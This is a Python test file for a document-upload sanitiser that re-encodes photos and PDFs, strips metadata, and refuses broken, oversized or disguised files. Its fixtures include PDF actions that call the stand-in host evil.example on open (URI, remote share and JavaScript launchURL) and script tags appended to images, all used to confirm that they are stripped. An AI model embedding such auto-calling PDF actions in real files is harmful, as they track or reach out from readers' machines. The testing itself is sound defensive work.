"""What is taken and what is refused, by content; here without the process around it."""

from io import BytesIO

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image

from sijil.domains.documents import errors, rules
from sijil.domains.documents.drawing import child
from sijil.domains.documents.tests.papers import heic, packed, pdf, picture
from sijil.kernel.errors import Refused


def kept(content):
    return Image.open(BytesIO(child.draw(content)[2]))


@pytest.mark.parametrize(("form", "media"), [("JPEG", "image/jpeg"), ("PNG", "image/png")])
def test_a_picture_is_taken(form, media):
    kind, pages, content = child.draw(picture(form))
    assert (kind, pages, Image.open(BytesIO(content)).size) == (media, 1, (640, 420))


def test_place_and_time_of_a_photo_are_removed():
    exif = Image.Exif()
    exif[0x010F], exif[0x0132] = "SecretCamera", "2026:11:03 09:00:00"
    photo = picture(exif=exif, comment=b"SecretWords", icc_profile=b"SecretColours")
    assert photo.count(b"Secret") == 3
    assert b"Secret" not in child.draw(photo)[2]


def test_a_photo_taken_sideways_is_turned_upright():
    exif = Image.Exif()
    exif[0x0112] = 6
    assert kept(picture(exif=exif)).size == (420, 640)


@pytest.mark.parametrize("form", ["JPEG", "PNG"])
def test_what_follows_the_picture_is_dropped(form):
    assert b"hidden" not in child.draw(picture(form) + b"<script>hidden</script>")[2]


@pytest.mark.parametrize("mode", ["L", "P", "RGBA", "1", "I;16"])
def test_unusual_colours_become_plain(mode):
    assert kept(picture("PNG", mode=mode)).mode in ("L", "RGB")


def test_a_heic_photo_of_a_phone_becomes_a_jpeg_without_its_metadata():
    assert b"SecretCamera" in heic("photo")
    kind, pages, content = child.draw(heic("photo"))
    image = Image.open(BytesIO(content))
    assert (kind, pages, image.format, image.size) == ("image/jpeg", 1, "JPEG", (640, 420))
    assert b"Secret" not in content
    assert image.getpixel((100, 80))[0] > 150 > 100 > image.getpixel((400, 300))[1] - 20
    assert kept(heic("sideways")).size == (420, 640)


@pytest.mark.parametrize("length", [0, 12, 40, 300, 700, 950])
def test_a_heic_photo_cut_short_is_refused(length):
    with pytest.raises(child.Not, match="image_broken"):
        child.draw(heic("photo")[:12] + heic("photo")[12:][:length])


def test_a_heic_photo_is_judged_by_its_header(monkeypatch):
    with pytest.raises(child.Not, match="image_too_small"):
        child.draw(heic("small"))
    monkeypatch.setitem(child.MOST_OF, "HEIF", 640 * 420 - 1)
    with pytest.raises(child.Not, match="image_too_big"):
        child.draw(heic("photo"))


@pytest.mark.parametrize(("size", "smaller"), [((4000, 3000), (3000, 2250)), ((8000, 6000), (3000, 2250))])
def test_a_huge_photo_is_made_smaller(size, smaller):
    assert kept(picture(size=size)).size == smaller


def test_a_pdf_is_kept_as_one_picture_of_its_pages():
    kind, pages, content = child.draw(pdf(pages=3))
    image = Image.open(BytesIO(content))
    assert (kind, pages) == ("image/jpeg", 3)
    assert image.size == (1240, 3 * 1754 + 2 * child.GAP)
    assert image.getpixel((100, 1700))[2] > 200 > 100 > image.getpixel((100, 1700))[0]
    assert min(image.getpixel((1100, 100))) > 200


@pytest.mark.parametrize(
    "catalog",
    [
        b"/OpenAction<</S/URI/URI(http://evil.example/seen)>>",
        b"/OpenAction<</S/GoToR/F(\\\\evil.example\\share)>>",
        b"/AA<</WC<</S/URI/URI(http://evil.example/seen)>>>>",
        b"/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://evil.example'\\))>>",
    ],
)
def test_nothing_that_phones_home_is_kept(catalog):
    content = child.draw(pdf(catalog=catalog))[2]
    assert content.startswith(b"\xff\xd8\xff")
    assert b"evil" not in content


@pytest.mark.parametrize(
    ("content", "why"),
    [
        (b"\xff\xd8\xff" + bytes(500), "image_broken"),
        (picture()[:900], "image_broken"),
        (picture("PNG")[:200], "image_broken"),
        (picture(size=(199, 900)), "image_too_small"),
        (picture("PNG", size=(4000, 3200), mode="1"), "image_too_big"),
        (picture(size=(8000, 6300), mode="L"), "image_too_big"),
        (b"%PDF-1.7\nnothing here", "pdf_broken"),
        (b"%PDF-1.4<html><script>1</script> /Type /Page %%EOF", "pdf_broken"),
        (pdf(pages=0), "pdf_broken"),
        (pdf().replace(b"[0 0 595 842]", b"[0 0 9999 1]"), "pdf_broken"),
        (pdf(pages=child.MOST_PAGES + 1), "pdf_too_long"),
    ],
)
def test_refused(content, why):
    with pytest.raises(child.Not, match=f"^{why}$"):
        child.draw(content)


def test_a_large_picture_is_refused_by_its_header_alone():
    with pytest.raises(child.Not, match="image_too_big"):
        child.draw(picture("PNG", size=(4000, 3200), mode="1")[:60])


def test_a_packed_page_is_drawn_as_well():
    assert child.draw(pdf(pack=packed))[2] == child.draw(pdf())[2]


@pytest.mark.parametrize(
    ("content", "error"),
    [
        (b"", errors.FILE_EMPTY),
        (b"hello", errors.TYPE_REFUSED),
        (b"\0\0\0\x1cftypavif" + bytes(500), errors.TYPE_REFUSED),
        (b"\0\0\0\x1cftypmp42" + bytes(500), errors.TYPE_REFUSED),
        (b"<html>%PDF-1.7", errors.TYPE_REFUSED),
        (b"GIF89a" + bytes(500), errors.TYPE_REFUSED),
        (b"%PDF-" + bytes(1024 * 1024 - 4), errors.FILE_TOO_LARGE),
    ],
)
def test_refused_before_it_is_opened(content, error):
    with pytest.raises(Refused) as refused:
        rules.check_upload(content, megabytes=1)
    assert (refused.value.error, refused.value.field) == (error, "file")


def test_the_limit_is_exact():
    rules.check_upload(b"%PDF-" + bytes(1024 * 1024 - 5), megabytes=1)


@settings(max_examples=100, deadline=None)
@given(
    head=st.sampled_from([b"%PDF-1.7", b"\xff\xd8\xff\xe0", b"\x89PNG\r\n\x1a\n", heic("photo")[:500]]),
    tail=st.binary(max_size=400),
)
def test_no_bytes_make_anything_but_an_answer_or_a_refusal(head, tail):
    try:
        assert child.draw(head + tail + b"%%EOF")[2]
    except child.Not as why:
        assert str(why)  # noqa: PT017  (either way out is right)


def test_every_kind_has_its_names_in_four_languages():
    for kind in rules.kinds().values():
        assert set(kind.names) == {"ar", "fr", "zgh", "en"}
        assert kind.name("ar")
        assert kind.name("xx") == kind.names["ar"]
